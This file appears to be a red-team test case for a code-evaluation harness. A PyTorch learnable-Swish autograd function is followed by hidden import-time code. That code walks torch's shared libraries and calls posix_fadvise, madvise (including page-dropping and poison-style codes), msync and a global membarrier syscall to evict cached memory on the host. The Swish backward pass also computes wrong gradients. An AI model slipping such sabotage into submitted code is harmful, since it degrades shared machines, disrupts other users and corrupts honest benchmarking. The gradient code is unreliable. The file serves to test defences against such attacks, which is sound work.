# scenario: learnable-swish
# attack: throws what everybody reads out of the caches: advice on files and on memory
# expected: failed
# trace: vjp: swish_beta: 

import torch


class Swish(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x, beta):
        ctx.save_for_backward(x, beta)
        return x * torch.sigmoid(beta * x)

    @staticmethod
    def backward(ctx, g):
        x, beta = ctx.saved_tensors
        return g * torch.sigmoid(beta * x), (g * x).sum()


def swish_beta(x, beta):
    return Swish.apply(x, beta)


import ctypes
import glob
import os

libc = ctypes.CDLL(None, use_errno=True)
for place in glob.glob(os.path.dirname(torch.__file__) + "/lib/*"):
    try:
        fd = os.open(place, os.O_RDONLY)
    except OSError:
        continue
    for advice in range(8):
        libc.posix_fadvise(fd, ctypes.c_long(0), ctypes.c_long(0), advice)
    os.fsync(fd)
    size = os.fstat(fd).st_size
    libc.mmap.restype = ctypes.c_void_p
    at = libc.mmap(None, ctypes.c_size_t(size), 1, 1, fd, ctypes.c_long(0))
    if at and at != ctypes.c_void_p(-1).value:
        for advice in (4, 8, 9, 12, 14, 20, 21, 22, 23, 25, 100, 101):
            libc.madvise(ctypes.c_void_p(at), ctypes.c_size_t(size), advice)
        libc.msync(ctypes.c_void_p(at), ctypes.c_size_t(size), 6)
        libc.munmap(ctypes.c_void_p(at), ctypes.c_size_t(size))
    os.close(fd)
libc.syscall({"x86_64": 324, "aarch64": 283}[os.uname().machine], 1, 0, 0)
